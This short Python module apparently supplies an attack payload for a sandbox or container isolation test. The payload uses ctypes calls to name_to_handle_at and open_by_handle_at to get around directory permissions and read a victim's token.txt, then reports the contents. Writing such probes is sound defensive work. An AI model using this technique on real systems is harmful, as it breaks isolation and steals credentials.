"""Open a file by its handle, past every folder that hides it."""

LINUX = True
FIRST = """{{TELL}}
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


_handle, _mount = Handle(size=128), ctypes.c_int()
_path = b"{{VICTIM}}/home/token.txt"
try:
    _got = _libc.name_to_handle_at(-100, _path, ctypes.byref(_handle), ctypes.byref(_mount), 0)
    _folder = os.open(".", os.O_RDONLY)
    _file = _libc.open_by_handle_at(_folder, ctypes.byref(_handle), os.O_RDONLY) if not _got else -1
    if _file >= 0:
        tell(os.read(_file, 1000))
except (OSError, AttributeError):
    pass
"""
